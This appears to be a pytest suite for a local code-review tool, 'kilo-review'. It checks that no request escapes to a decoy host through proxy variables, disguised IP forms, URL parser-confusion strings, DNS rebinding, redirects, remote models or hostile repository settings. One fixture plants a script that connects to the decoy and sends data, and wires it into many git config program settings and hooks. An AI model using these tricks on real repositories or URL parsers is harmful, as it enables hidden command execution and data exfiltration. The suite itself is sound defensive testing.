"""A decoy beyond loopback, and every trick that might lead the program there: not one packet arrives.

Two network namespaces are joined by a cable. In one of them the review runs, with a model server on its loopback, and
all that is not loopback is routed into the cable. At the other end stands the decoy, a model server too, which would
take the change if it came. Packets are counted where they come out of the cable, so that a look-up, a connection
attempt or a question for an address would count as well.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from contextlib import ExitStack
from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from tests.conftest import Result
from tests.support.engines import SHORT, asked
from tests.support.fakes.lmstudio import LMStudio
from tests.support.fakes.lmstudio import Model as StudioModel
from tests.support.fakes.ollama import Model, Ollama
from tests.support.fakes.resolver import ADDRESS, Resolver
from tests.support.hooked import by_server
from tests.support.namespaces import DECOY, Network, inside, network, with_files

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator, Mapping, Sequence

    from tests.conftest import Repo
    from tests.support.fakes.base import Call, Fake, Response

REDIRECTS = (301, 302, 307, 308)
CLEAN = "kilo-review: no findings: 1 hunk in 1 file reviewed by qwen2.5-coder:7b"


@dataclass
class Bait:
    """What an honest-looking server adds to its answers.

    Attributes:
        route: to which of them; "" for all.
        status: instead of its own, if it is another one.
        lure: header lines.
    """

    route: str = ""
    status: int = 200
    lure: tuple[tuple[str, str], ...] = ()

    def on(self, call: Call, answer: Response) -> Response:
        if self.route not in {"", call.path}:
            return answer
        return replace(answer, status=answer.status if self.status == 200 else self.status, headers=self.lure)


@dataclass(eq=False)
class BaitedOllama(Ollama):
    bait: Bait = field(default_factory=Bait)

    def respond(self, call: Call) -> Response:
        return self.bait.on(call, super().respond(call))


@dataclass(eq=False)
class BaitedStudio(LMStudio):
    bait: Bait = field(default_factory=Bait)

    def respond(self, call: Call) -> Response:
        return self.bait.on(call, super().respond(call))


@pytest.fixture(scope="module")
def net() -> Iterator[Network]:
    with network() as made:
        yield made


def started(stack: ExitStack, where: str, fake: Fake) -> None:
    with inside(where):
        stack.enter_context(fake)


@dataclass
class Trap:
    """The honest server, the decoy at the same port elsewhere, and how the program is run between them."""

    net: Network
    server: BaitedOllama
    decoy: Ollama
    directory: Path

    @property
    def port(self) -> int:
        return int(self.server.url.rpartition(":")[2])

    @property
    def elsewhere(self) -> str:
        return f"http://{DECOY}:{self.port}"

    def run(
        self, command: Sequence[str], env: Mapping[str, str] | None = None, cwd: Path | None = None
    ) -> tuple[Result, int]:
        """Run a command on this side; how it ended, and how many packets came out on the other side."""
        before = self.net.arrived()
        with inside(self.net.here):
            done = subprocess.run(
                command,
                cwd=cwd or self.directory,
                env=os.environ | dict(env or {}),
                stdin=subprocess.DEVNULL,
                capture_output=True,
                timeout=100,
            )
        return Result(done.returncode, done.stdout, done.stderr), self.net.arrived() - before

    def review(self, *arguments: str, before: Sequence[str] = (), env: Mapping[str, str] | None = None) -> Result:
        """Run the program; nothing may arrive."""
        words = (*before, sys.executable, "-m", "kilo_review", *arguments)
        done, arrived = self.run(words, env)
        assert (arrived, self.decoy.connections) == (0, 0), done.text + done.talk
        return done

    def ollama(self, *arguments: str, **settings: Any) -> Result:
        """Review by the honest server."""
        return self.review("--provider", "ollama", "--base-url", self.server.url, *arguments, **settings)

    def naive(self, lines: str, *words: str, before: Sequence[str] = (), env: Mapping[str, str] | None = None) -> None:
        """A client that falls for the trick: the trap works."""
        done, arrived = self.run((*before, sys.executable, "-c", lines, *words), env)
        assert arrived, done.talk
        assert self.decoy.calls, done.talk
        self.decoy.calls.clear()
        self.decoy.connections = 0


@pytest.fixture
def trap(net: Network, buggy: Repo) -> Iterator[Trap]:
    models = [Model("qwen2.5-coder:7b", loaded_window=8192)]
    with ExitStack() as stack:
        server = BaitedOllama(models=models)
        started(stack, net.here, server)
        decoy = Ollama(host=DECOY, port=int(server.url.rpartition(":")[2]), models=models)
        started(stack, net.there, decoy)
        yield Trap(net, server, decoy, buggy.path)


GET = "import sys, urllib.request\nurllib.request.urlopen(sys.argv[1], timeout=5).read()"


def clean(done: Result) -> None:
    assert done.code == 0, done.text + done.talk
    assert done.text.startswith(CLEAN)


def refused(done: Result, *words: str, code: int = 3) -> None:
    assert done.code == code, done.text + done.talk
    for word in words:
        assert word in done.text + done.talk


# The trap itself


def test_the_decoy_hears_who_comes(trap: Trap) -> None:
    trap.naive(GET, f"{trap.elsewhere}/api/version")


def test_a_single_packet_counts(trap: Trap) -> None:
    for lines in (
        f"import socket\nsocket.socket(type=socket.SOCK_DGRAM).sendto(b'x', ('{DECOY}', 9))",
        "import socket\nsocket.socket(type=socket.SOCK_DGRAM).sendto(b'x', ('192.0.2.7', 53))",
        f"import socket\nsocket.socket().connect_ex(('{DECOY}', 9))",
    ):
        _, arrived = trap.run((sys.executable, "-c", lines))
        assert arrived


def test_without_a_trick_the_change_is_reviewed_and_nothing_arrives(trap: Trap) -> None:
    clean(trap.ollama())
    assert "len(items)" in trap.server.asked("/api/chat")[0]["messages"][-1]["content"]


# The environment


@pytest.mark.parametrize("names", ["HTTP_PROXY HTTPS_PROXY ALL_PROXY", "http_proxy https_proxy all_proxy"])
@pytest.mark.long
def test_proxies(trap: Trap, names: str) -> None:
    variables = dict.fromkeys(names.split(), trap.elsewhere)
    if names.islower():
        trap.naive(GET, trap.server.url, env=variables)
    clean(trap.ollama(env=variables))
    clean(trap.review(env=variables | {"OLLAMA_HOST": trap.server.url}))
    done = trap.review("--provider", "ollama", "--base-url", trap.server.url.replace("http:", "https:"), env=variables)
    refused(done, "no TLS connection to https://127.0.0.1")


@pytest.mark.parametrize("form", ["{host}:{port}", "http://{host}:{port}", "http://{host}:{port}/v1", "{host}"])
@pytest.mark.long
def test_ollama_host(trap: Trap, form: str) -> None:
    variables = {"OLLAMA_HOST": form.format(host=DECOY, port=trap.port)}
    refused(trap.review("--provider", "ollama", env=variables), f"{DECOY} is not this machine; nothing was sent")
    refused(trap.review(env=variables), f"{DECOY} is not this machine; nothing was sent")


@pytest.mark.parametrize("name", ["KILO_REVIEW_BASE_URL", "OPENAI_BASE_URL", "OPENAI_API_BASE", "LMSTUDIO_HOST"])
def test_variables_that_name_a_server(trap: Trap, name: str) -> None:
    done = trap.review(env={name: f"{trap.elsewhere}/v1", "OLLAMA_HOST": trap.server.url})
    if name.startswith("KILO_REVIEW_"):
        refused(done, f"{DECOY} is not this machine; nothing was sent")
    else:
        clean(done)


# Addresses


def numbers(address: str) -> list[int]:
    return [int(part) for part in address.split(".")]


FORMS = {
    "plain": DECOY,
    "decimal": str(int.from_bytes(numbers(DECOY), "big")),
    "octal": ".".join(f"0{part:o}" for part in numbers(DECOY)),
    "hex": ".".join(f"0x{part:x}" for part in numbers(DECOY)),
    "one hex": f"0x{int.from_bytes(numbers(DECOY), 'big'):x}",
    "short": f"{numbers(DECOY)[0]}.{int.from_bytes(numbers(DECOY)[1:], 'big')}",
    "mapped": f"[::ffff:{DECOY}]",
    "mapped hex": f"[::ffff:{numbers(DECOY)[0]:x}{numbers(DECOY)[1]:02x}:{numbers(DECOY)[2]:x}{numbers(DECOY)[3]:02x}]",
}
FULL_WIDTH = "".join(chr(ord(digit) + 0xFEE0) if digit.isdigit() else "\u3002" for digit in DECOY)


@pytest.mark.parametrize("form", FORMS.values(), ids=FORMS.keys())
@pytest.mark.long
def test_forms_of_its_address(trap: Trap, form: str) -> None:
    for provider in ("ollama", "openai", "auto"):
        done = trap.review("--provider", provider, "--base-url", f"http://{form}:{trap.port}")
        refused(done)
        assert any(words in done.text + done.talk for words in ("not this machine; nothing was sent", "not resolve"))


@pytest.mark.long
def test_its_address_in_full_width_is_none(trap: Trap) -> None:
    for provider in ("ollama", "openai", "auto"):
        done = trap.review("--provider", provider, "--base-url", f"http://{FULL_WIDTH}:{trap.port}")
        refused(done, "A host's name has letters, digits, dots and hyphens", code=2)


@pytest.mark.parametrize(
    "form",
    [
        "http://127.0.0.1@{elsewhere}",
        "http://127.0.0.1:{port}@{elsewhere}",
        "http://{elsewhere}@127.0.0.1:{port}",
        "http://127.0.0.1:80\\@{elsewhere}",
        "http://{elsewhere}\\@127.0.0.1:{port}",
        "http://127.0.0.1%40{elsewhere}",
        "http://127.0.0.1%2f@{elsewhere}",
        "http://127.0.0.1#@{elsewhere}",
        "http://127.0.0.1?@{elsewhere}",
        "http://{elsewhere}#@127.0.0.1",
        "http://127.0.0.1\t@{elsewhere}",
        "http:/\t/{elsewhere}",
        "http:////{elsewhere}",
        "//{elsewhere}",
        "http://[::1]@{elsewhere}",
        "http://[::1%25@{elsewhere}]",
        "http://127.0.0.1\r\nHost: {elsewhere}",
    ],
)
def test_addresses_that_are_read_in_two_ways(trap: Trap, form: str) -> None:
    url = form.format(port=trap.port, elsewhere=f"{DECOY}:{trap.port}")
    done = trap.review("--provider", "ollama", "--base-url", url)
    assert done.code in {2, 3}, done.text + done.talk
    assert "kilo-review: " in done.text + done.talk


# Names


@pytest.fixture
def etc(tmp_path: Path) -> Callable[[str], list[str]]:
    """Words before a command by which it asks the name server of a test, and knows the hosts that are given."""

    def make(hosts: str = "") -> list[str]:
        files = {
            "hosts": f"127.0.0.1 localhost\n{hosts}\n",
            "resolv__conf": f"nameserver {ADDRESS}\noptions timeout:1 attempts:1\n",
            "nsswitch__conf": "hosts: files dns\n",
        }
        there = {name: text for name, text in files.items() if Path("/etc", name.replace("__", ".")).exists()}
        for name, text in there.items():
            (tmp_path / name).write_text(text)
        return with_files(**{name: tmp_path / name for name in there})

    return make


@pytest.fixture
def resolver(net: Network) -> Iterator[Callable[..., Resolver]]:
    with ExitStack() as stack:

        def start(*answers: list[str]) -> Resolver:
            with inside(net.here):
                return stack.enter_context(Resolver(*answers))

        yield start


def test_a_name_that_is_local_only_the_first_time(
    trap: Trap, resolver: Callable[..., Resolver], etc: Callable[..., list[str]], division: dict[str, Any]
) -> None:
    names = resolver(["127.0.0.1"], [DECOY])
    trap.server.answer = json.dumps({"findings": [division]})  # it is put to the test: by a second connection
    done = trap.review("--provider", "ollama", "--base-url", f"http://rebind.test:{trap.port}", before=etc())
    assert done.code == 1, done.text + done.talk
    assert names.asked == ["rebind.test"]
    assert trap.server.connections > 1


def test_a_client_that_asks_twice_would_fall_for_that(
    trap: Trap, resolver: Callable[..., Resolver], etc: Callable[..., list[str]]
) -> None:
    resolver(["127.0.0.1"], [DECOY])
    trap.naive(f"{GET}\n{GET}", f"http://rebind.test:{trap.port}/api/version", before=etc())
    assert trap.server.paths == ["/api/version"]


@pytest.mark.parametrize("provider", ["ollama", "openai", "auto"])
@pytest.mark.parametrize(
    "answers",
    [([DECOY], ["127.0.0.1"]), (["127.0.0.1", DECOY],), ([DECOY, "127.0.0.1"],)],
    ids=["first", "both", "too"],
)
def test_a_name_with_any_other_address_is_refused(
    trap: Trap,
    resolver: Callable[..., Resolver],
    etc: Callable[..., list[str]],
    answers: tuple[list[str], ...],
    provider: str,
) -> None:
    resolver(*answers)
    done = trap.review("--provider", provider, "--base-url", f"http://rebind.test:{trap.port}", before=etc())
    refused(done, f"rebind.test is at {DECOY}, which is not this machine; nothing was sent")
    assert trap.server.calls == []


@pytest.mark.long
def test_a_name_that_changes_between_two_attempts(
    trap: Trap, resolver: Callable[..., Resolver], etc: Callable[..., list[str]]
) -> None:
    """`auto` tries one interface after the other, and looks the name up for each."""
    resolver(["127.0.0.1"], [DECOY])
    trap.server.bait = Bait("/api/version", 404)
    done = trap.review("--base-url", f"http://rebind.test:{trap.port}", before=etc())
    refused(done, f"rebind.test is at {DECOY}, which is not this machine; nothing was sent")


@pytest.mark.long
def test_hosts_that_lie(trap: Trap, resolver: Callable[..., Resolver], etc: Callable[..., list[str]]) -> None:
    names = resolver([DECOY])
    before = etc(f"{DECOY} ollama.test\n{DECOY} localhost")
    trap.naive(GET, f"http://ollama.test:{trap.port}/api/version", before=before)
    done = trap.review("--provider", "ollama", "--base-url", f"http://ollama.test:{trap.port}", before=before)
    refused(done, f"ollama.test is at {DECOY}, which is not this machine; nothing was sent")
    for name in ("localhost", "LOCALHOST", "localhost."):
        clean(
            trap.review("--provider", "ollama", "--no-cache", "--base-url", f"http://{name}:{trap.port}", before=before)
        )
    clean(trap.review("--no-cache", before=before, env={"OLLAMA_HOST": f"localhost:{trap.port}"}))
    assert names.asked == []


# Servers that send elsewhere


@pytest.mark.parametrize("status", REDIRECTS)
@pytest.mark.parametrize("route", ["/api/version", "/api/tags", "/api/ps", "/api/show", "/api/chat"])
@pytest.mark.long
def test_redirects_of_ollama(trap: Trap, route: str, status: int) -> None:
    trap.server.bait = Bait(route, status, (("Location", f"{trap.elsewhere}{route}"),))
    if route == "/api/version":
        trap.naive(GET, f"{trap.server.url}{route}")
    refused(trap.ollama(), "redirects to", "which was not followed")
    assert [body["messages"] for body in trap.server.asked("/api/chat")][1:] == []


@pytest.mark.parametrize("status", REDIRECTS[1:3])
@pytest.mark.parametrize("route", ["/v1/models", "/api/show", "/v1/chat/completions"])
def test_redirects_of_an_openai_server(trap: Trap, route: str, status: int) -> None:
    trap.server.bait = Bait(route, status, (("Location", f"{trap.elsewhere}{route}"),))
    refused(trap.review("--provider", "openai", "--base-url", trap.server.url), "redirects to", "not followed")


@pytest.mark.parametrize("status", REDIRECTS[1:3])
@pytest.mark.parametrize("route", ["/api/v1/models", "/v1/chat/completions"])
def test_redirects_of_lm_studio(trap: Trap, route: str, status: int) -> None:
    bait = Bait(route, status, (("Location", f"{trap.elsewhere}{route}"),))
    with ExitStack() as stack:
        studio = BaitedStudio(models=[StudioModel("qwen2.5-coder-14b", loaded_window=8192)], bait=bait)
        started(stack, trap.net.here, studio)
        refused(trap.review("--provider", "lmstudio", "--base-url", studio.url), "redirects to", "not followed")


@pytest.mark.parametrize("where", ["//{place}/x", "https://{place}/x", "http://127.0.0.1@{place}/x", "\\\\{place}", ""])
def test_odd_places_to_be_sent_to(trap: Trap, where: str) -> None:
    trap.server.bait = Bait("/api/chat", 307, (("Location", where.format(place=f"{DECOY}:{trap.port}")),))
    refused(trap.ollama(), "redirects to")


@pytest.mark.long
def test_headers_that_point_elsewhere(trap: Trap) -> None:
    trap.server.bait = Bait(
        lure=(
            ("Alt-Svc", f'http/1.1="{DECOY}:{trap.port}"; ma=86400'),
            ("Alt-Svc", f'h2="{DECOY}:{trap.port}"'),
            ("Location", f"{trap.elsewhere}/api/chat"),
            ("Content-Location", f"{trap.elsewhere}/api/chat"),
            ("Link", f"<{trap.elsewhere}/x>; rel=preload, <{trap.elsewhere}>; rel=preconnect"),
            ("Refresh", f"0; url={trap.elsewhere}"),
            ("NEL", '{"report_to": "x"}'),
            ("Report-To", f'{{"group": "x", "max_age": 9, "endpoints": [{{"url": "{trap.elsewhere}"}}]}}'),
            ("Set-Cookie", f"a=b; Domain={DECOY}"),
        )
    )
    clean(trap.ollama())
    clean(trap.review("--provider", "openai", "--no-cache", "--base-url", trap.server.url))


@pytest.mark.parametrize("status", [300, 303, 305, 401, 407, 421, 426, 503, 511])
def test_other_answers_that_point_elsewhere(trap: Trap, status: int) -> None:
    lure = (
        ("Location", f"{trap.elsewhere}/"),
        ("Proxy-Authenticate", f'Basic realm="{trap.elsewhere}"'),
        ("WWW-Authenticate", f'Bearer realm="{trap.elsewhere}/token"'),
        ("Retry-After", "0"),
        ("Upgrade", "h2c"),
    )
    trap.server.bait = Bait("/api/chat", status, lure)
    refused(trap.ollama())


# Models that are elsewhere


def test_a_remote_model_in_the_listing_is_left_out(trap: Trap) -> None:
    trap.server.models.insert(0, Model("big:7b", remote_host=trap.elsewhere, remote_model="big", loaded_window=8192))
    clean(trap.ollama())
    trap.server.models[1:] = []
    refused(trap.ollama("--no-cache"), "has no model that can answer")
    assert {body["model"] for body in trap.server.asked("/api/chat")} == {"qwen2.5-coder:7b"}


@pytest.mark.parametrize("provider", ["ollama", "openai", "auto"])
@pytest.mark.parametrize("facts", [{"remote_host": "DECOY"}, {"remote_model": "big"}])
def test_a_model_that_says_it_is_remote(trap: Trap, provider: str, facts: dict[str, str]) -> None:
    trap.server.models[:] = [Model("mine")]
    for name, value in facts.items():
        setattr(trap.server.models[0], name, value.replace("DECOY", trap.elsewhere))
    done = trap.review("--provider", provider, "--base-url", trap.server.url, "--model", "mine")
    refused(done, "your code would leave this machine; nothing of it was sent")
    assert not {"/api/chat", "/v1/chat/completions"} & set(trap.server.paths)


class Turncoat(BaitedOllama):
    """Its model becomes remote after it has been asked about."""

    def _chat(self, body: dict[str, Any]) -> Response:
        self.models[0].remote_host = f"http://{DECOY}"
        return super()._chat(body)


def test_an_answer_that_comes_from_elsewhere_is_said_and_not_believed(trap: Trap) -> None:
    with ExitStack() as stack:
        server = Turncoat(models=[Model("mine", loaded_window=8192)])
        started(stack, trap.net.here, server)
        done = trap.review("--provider", "ollama", "--base-url", server.url)
    refused(done, f"runs on http://{DECOY}: the request has left this machine")


@pytest.mark.parametrize("name", ["qwen3-coder:480b-cloud", "x:cloud", "X:20B:CLOUD"])
def test_a_cloud_models_name(trap: Trap, name: str) -> None:
    trap.server.models.append(Model(name))
    for provider in ("ollama", "openai"):
        done = trap.review("--provider", provider, "--base-url", trap.server.url, "--model", name)
        refused(done, "runs on ollama.com: your code would leave this machine; nothing of it was sent")
    assert not {"/api/chat", "/v1/chat/completions"} & set(trap.server.paths)


@pytest.mark.parametrize("name", ["http://{place}/x.gguf", "hf://{place}/x", "//{place}/x.gguf", "\\\\{place}\\x.gguf"])
def test_a_model_file_that_is_elsewhere(trap: Trap, name: str) -> None:
    done = trap.review("--provider", "embedded", "--model", name.format(place=f"{DECOY}:{trap.port}"))
    refused(done)


@pytest.mark.long
def test_an_engine_that_is_told_to_fetch(trap: Trap, gguf: Path) -> None:
    variables = {
        "LLAMA_ARG_MODEL_URL": f"{trap.elsewhere}/x.gguf",
        "LLAMA_ARG_HF_REPO": "a/b",
        "LLAMA_ARG_RPC": f"{DECOY}:{trap.port}",
        "LLAMA_ARG_HOST": DECOY,
        "HF_ENDPOINT": trap.elsewhere,
        "MODEL_ENDPOINT": trap.elsewhere,
        "http_proxy": trap.elsewhere,
    }
    done = trap.review("--provider", "embedded", *SHORT, "--format", "json", env=variables)
    asked(done.json())


# The repository under review


SETTINGS = {
    "address": (".kilo-review.toml", 'base_url = "{elsewhere}"', "the repository may not set 'base_url'"),
    "pyproject": ("pyproject.toml", '[tool.kilo-review]\nbase_url = "{elsewhere}"', "may not set 'base_url'"),
    "other spelling": (".kilo-review.toml", 'base-url = "{elsewhere}"', "the repository may not set 'base-url'"),
    "profile": (".kilo-review.toml", '[profiles.quick]\nbase_url = "{elsewhere}"', "may not set 'base_url'"),
    "option": (".kilo-review.toml", '[model.options]\nbase_url = "{elsewhere}"', "base_url"),
    "hosts": (".kilo-review.toml", f'allow_hosts = ["{DECOY}"]', "'allow_hosts'"),
    "file": (".kilo-review.toml", 'provider = "embedded"\nmodel = "//{elsewhere}/x.gguf"', "model"),
}


@pytest.mark.parametrize(("name", "text", "words"), SETTINGS.values(), ids=SETTINGS.keys())
@pytest.mark.long
def test_settings_of_the_repository(trap: Trap, buggy: Repo, name: str, text: str, words: str) -> None:
    buggy.stage(name, text.replace("{elsewhere}", trap.elsewhere))
    for arguments in ((), ("--provider", "ollama", "--base-url", trap.server.url)):
        refused(trap.review(*arguments), words, code=2)
    refused(trap.review("hook", "pre-commit"), words, code=2)
    assert trap.server.calls == []


def test_a_cloud_model_that_the_repository_chooses(trap: Trap, buggy: Repo) -> None:
    buggy.write(".kilo-review.toml", 'model = "gpt-oss:120b-cloud"\nprovider = "ollama"\n')
    refused(trap.review("--base-url", trap.server.url), "your code would leave this machine; nothing of it was sent")


PROGRAMS = (
    *("core.fsmonitor", "core.pager", "core.editor", "core.sshCommand", "core.gitProxy", "core.alternateRefsCommand"),
    *("core.askPass", "credential.helper", "diff.external", "diff.trap.textconv", "diff.trap.command", "gpg.program"),
    *("interactive.diffFilter", "pager.diff-tree", "pager.cat-file", "sequence.editor", "merge.trap.driver"),
    *(
        "uploadpack.packObjectsHook",
        "filter.trap.clean",
        "filter.trap.smudge",
        "remote.origin.uploadpack",
        "gc.recentObjectsHook",
    ),
)
"""Settings of git that name a program."""
HOOKS = ("post-index-change", "reference-transaction", "post-checkout", "pre-auto-gc", "fsmonitor-watchman")


@pytest.fixture
def calling(trap: Trap, buggy: Repo, tmp_path: Path) -> Repo:
    """A repository whose configuration has git call the decoy, with the content of what it is about."""
    script = tmp_path / "call"
    lines = f"import socket, sys; socket.create_connection(('{DECOY}', {trap.port}), 2).sendall(b'here it is')"
    script.write_text(f'#!/bin/sh\n{sys.executable} -c "{lines}"\nexec cat\n')
    script.chmod(0o755)
    buggy.commit("second", b__txt="b\n")
    buggy.stage("app.py", "def mean(items):\n    return sum(items) / max(len(items), 1)\n")
    buggy.stage(".gitattributes", "* diff=trap filter=trap merge=trap\n")
    hooks = buggy.path / ".git" / "hooks"
    hooks.mkdir(exist_ok=True)
    for hook in HOOKS:
        (hooks / hook).symlink_to(script)
    for name in PROGRAMS:
        buggy.git("config", name, str(script))
    settings = {
        "http.proxy": trap.elsewhere,
        f"url.{trap.elsewhere}/.insteadOf": "https://",
        "remote.origin.url": "https://example.invalid/x.git",
        "remote.origin.promisor": "true",
        "alias.diff-tree": f"!{script}",
    }
    for name, value in settings.items():
        buggy.git("config", name, value)
    (buggy.path / ".git" / "info").mkdir(exist_ok=True)
    (buggy.path / ".git" / "info" / "attributes").write_text("* diff=trap filter=trap\n")
    return buggy


@pytest.mark.parametrize("command", [("diff", "--cached"), ("status",), ("ls-remote",), ("log", "-p", "--ext-diff")])
def test_git_by_itself_would_call(trap: Trap, calling: Repo, command: tuple[str, ...]) -> None:
    _, arrived = trap.run(("git", *command))
    assert arrived


@pytest.mark.parametrize(
    "arguments",
    [
        ("staged",),
        ("HEAD",),
        ("HEAD~1..HEAD",),
        ("branch", "--base", "HEAD~1"),
        ("hook", "pre-commit"),
        ("uncommitted",),
    ],
    ids=lambda arguments: arguments[0],
)
def test_programs_that_git_is_told_to_run(trap: Trap, calling: Repo, arguments: tuple[str, ...]) -> None:
    if arguments == ("uncommitted",):  # the one that reads files as `git add` does; see below
        calling.git("config", "--unset", "filter.trap.clean")
    done = trap.review(*arguments, env=by_server(trap.server))
    assert done.code == 0, done.text + done.talk
    assert "no findings" in done.text


@pytest.mark.long
def test_uncommitted_runs_the_clean_filters_of_gits_configuration_as_git_add_does(
    trap: Trap, buggy: Repo, tmp_path: Path
) -> None:
    """The one program of somebody else's: without it, what `git add` would record is not known (LFS, git-crypt).

    A clone cannot bring one along: `.gitattributes` names it, the user's configuration says what it is.
    """
    buggy.stage(".gitattributes", "* filter=trap\n")
    buggy.write("new.py", "x = 1\n")
    words = ("--provider", "ollama", "--base-url", trap.server.url)
    assert trap.review("uncommitted", "--no-cache", *words).code == 0
    called = tmp_path / "called"
    buggy.git("config", "filter.trap.clean", f"touch {called}; cat")
    assert trap.review("staged", "--no-cache", *words).code == 0
    assert not called.exists()
    assert trap.review("uncommitted", "--no-cache", *words).code == 0
    assert called.exists()


def test_what_only_the_environment_tells_git(trap: Trap, calling: Repo, tmp_path: Path) -> None:
    script = str(tmp_path / "call")
    variables = dict.fromkeys(
        ("GIT_EXTERNAL_DIFF", "GIT_PAGER", "GIT_ASKPASS", "GIT_SSH", "GIT_EDITOR", "PAGER"), script
    )
    variables |= {"GIT_PROXY_COMMAND": script, "GIT_CONFIG_COUNT": "1"}
    variables |= {"GIT_CONFIG_KEY_0": "core.fsmonitor", "GIT_CONFIG_VALUE_0": script}
    done = trap.ollama("HEAD", env=variables)
    assert (done.code, "no findings: 2 hunks in 2 files reviewed" in done.text) == (0, True), done.talk


def test_a_partial_clone_does_not_fetch(trap: Trap, buggy: Repo) -> None:
    oid = buggy.out("rev-parse", ":app.py")
    (buggy.path / ".git" / "objects" / oid[:2] / oid[2:]).unlink()
    for name, value in {
        "core.repositoryFormatVersion": "1",
        "extensions.partialClone": "origin",
        "remote.origin.promisor": "true",
        "remote.origin.url": f"{trap.elsewhere}/x.git",
        "remote.origin.fetch": "+refs/heads/*:refs/remotes/origin/*",
    }.items():
        buggy.git("config", name, value)
    refused(trap.ollama(), "partial clone")
    _, arrived = trap.run(("git", "cat-file", "blob", oid))
    assert arrived


# The other commands


@pytest.mark.parametrize("command", ["bench", "catch-up", "hook", "status", "doctor"])
def test_other_commands_with_all_of_it_at_once(trap: Trap, calling: Repo, command: str) -> None:
    variables = dict.fromkeys(("http_proxy", "HTTP_PROXY", "all_proxy", "ALL_PROXY"), trap.elsewhere)
    variables |= by_server(trap.server)
    words = {
        "bench": ("bench", "--limit", "1"),
        "hook": ("hook", "pre-commit"),
        "doctor": ("doctor", "--prove-local"),
    }
    done = trap.review(*words.get(command, (command,)), env=variables)
    assert done.code == 0, done.text + done.talk
    if command == "doctor":
        assert "kilo-review: proved: " in done.text
